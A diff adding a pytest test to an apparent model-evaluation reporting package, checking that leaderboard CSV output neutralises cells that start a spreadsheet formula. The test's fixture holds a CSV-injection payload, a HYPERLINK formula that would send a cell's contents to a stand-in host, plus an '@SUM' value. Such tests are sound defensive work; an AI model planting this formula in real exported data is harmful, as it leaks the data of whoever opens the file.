@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 from test_report_fixtures import write_run
 
+from janus_eval.report.leaderboard import build_leaderboard, render_leaderboard
 from janus_eval.report.papers import paper_leaderboard
 from janus_eval.report.papers_render import render_papers
 from janus_eval.report.records import load_runs
@@ -167,3 +168,18 @@ def test_cli_sub_metrics_is_refused_in_the_papers_layout(tmp_path: Path, cli) ->
     _pope(tmp_path / "runs", "p", 85.0)
     done = cli("leaderboard", str(tmp_path / "runs"), "--layout", "papers", "--sub-metrics")
     assert done.returncode == 2 and "--sub-metrics" in done.stderr
+
+
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    write_run(tmp_path, "f", task="pope", primary="f1", model=FORMULA, checkpoint="@SUM(A1)",
+              metrics={"f1": 50.0}, options={"split": "all"})  # fmt: skip
+    rows = list(csv.reader(io.StringIO(render_papers(_table(tmp_path), "csv"))))
+    measured = next(r for r in rows if r[0] == "false")
+    assert measured[1:3] == ["'" + FORMULA, "'@SUM(A1)"]
+    frame = build_leaderboard([tmp_path])
+    lines = list(csv.reader(io.StringIO(render_leaderboard(frame, "csv"))))
+    assert lines[1][:2] == ["'" + FORMULA, "'@SUM(A1)"]
+    assert render_papers(_table(tmp_path), "json").count(FORMULA.replace('"', '\\"')) == 1
